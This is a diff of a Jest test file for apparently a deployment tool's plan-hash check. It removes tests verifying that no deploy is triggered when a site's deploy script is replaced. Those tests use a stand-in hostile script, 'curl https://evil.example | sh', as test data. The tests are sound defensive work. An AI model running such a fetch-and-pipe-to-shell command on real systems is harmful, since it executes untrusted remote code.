@@ -2,15 +2,12 @@ import { inspect } from 'node:util';
 import { describe, expect, test } from '@jest/globals';
 import { type Played, play } from '../../../harness/play.ts';
 import type { Behaviour, Faultable } from '../../../harness/simulator/behaviour.ts';
-import { GOOD } from '../../../harness/simulator/deploys.ts';
-import { MANNERS } from '../../../harness/simulator/simulation.ts';
 import type { Simulator } from '../../../harness/simulator/simulator.ts';
 import { planChange } from '../../../src/operations/operation.ts';
 import type { RunEnd } from '../../../src/outcome/end.ts';
 import { hashPlan, spellChange } from '../../../src/run/plan-hash.ts';
 import { framed } from '../../../src/script/frame.ts';
 import { on } from '../../support/on.ts';
-import { USING } from '../../support/rollback-cases.ts';
 
 type Deed = (request: Faultable & { readonly line: string }, service: Simulator) => void;
 type Inputs = Readonly<Record<string, string>>;
@@ -182,59 +179,6 @@ describe('a run with plan-hash', () => {
       planHash: undefined,
     });
     expect(report.facts?.env).toBeUndefined();
-  });
-
-  const REPLACED = 'curl https://evil.example | sh\n';
-
-  test('triggers nothing if the deploy script was replaced since the plan', async () => {
-    const { report, writes } = await agreeAndRun({ script: REPLACED }, { operations: 'deploy' });
-    expect(writes).toEqual([]);
-    expect(report.failure).toMatchObject({
-      reason: 'plan-changed',
-      message:
-        'The plan no longer matches plan-hash. Nothing was written. All that differs is a deploy script: it was replaced since the plan was made.',
-    });
-    const { hash } = await planOf({}, { operations: 'deploy' });
-    const other = { operations: 'deploy', wait: 'false', 'plan-hash': hash };
-    const changed = await play({ ...SITE, script: REPLACED }, other);
-    expect(changed.report.failure?.message).toContain('It would now be:\ndeploy: trigger a deploy');
-  });
-
-  const commit = 'a'.repeat(40);
-  const withEnv = { ...given, operations: 'sync-env, deploy' };
-  test.each<[string, Inputs, Behaviour]>([
-    ['stood at the plan', withEnv, {}],
-    ['was read for the commit', { ...withEnv, commit, 'commit-by': 'variable' }, { script: USING }],
-    ['this run has written', given, {}],
-  ])('triggers nothing if the script that %s is replaced while it writes', async (_, inputs, before) => {
-    const replace: Deed = ({ line }, { meddle }) => {
-      if (/^PATCH .*env$/.test(line)) meddle({ kind: 'script', script: REPLACED });
-    };
-    const { report, writes } = await agreeAndRun(during(replace), inputs, before);
-    expect(writes.filter((line) => line.startsWith('POST'))).toEqual([]);
-    expect(report.failure).toMatchObject({
-      reason: 'plan-changed',
-      message: expect.stringContaining('the deploy script of the site was replaced during this run'),
-    });
-  });
-
-  test('triggers nothing if the script is replaced while it waits for another deploy', async () => {
-    const manners = { deploys: MANNERS.family.deploys };
-    const deployThenReplace: Deed = ({ line, nth }, { meddle }) => {
-      if (line.endsWith('/script') && nth === 1) meddle({ kind: 'deploy', course: { ...GOOD, delayMs: 0 } });
-      if (line.endsWith('/sites/2') && nth === 3) meddle({ kind: 'script', script: REPLACED });
-    };
-    const inputs = { operations: 'deploy', site: '2' };
-    const { report, writes } = await agreeAndRun(during(deployThenReplace), inputs, { manners });
-    expect([writes, report.failure?.reason]).toEqual([[], 'plan-changed']);
-    const good = await agreeAndRun({}, inputs, { manners });
-    expect(good.report.outcome).toBe('succeeded');
-  });
-
-  test('does not cover a script that the service has no call for', async () => {
-    const unread: Behaviour = { fault: on(/\/script$/, { status: 404 }) };
-    const { report } = await agreeAndRun({}, { operations: 'deploy' }, unread);
-    expect(report.outcome).toBe('succeeded');
   });
 
   test('writes nothing when it cannot look at what is there', async () => {
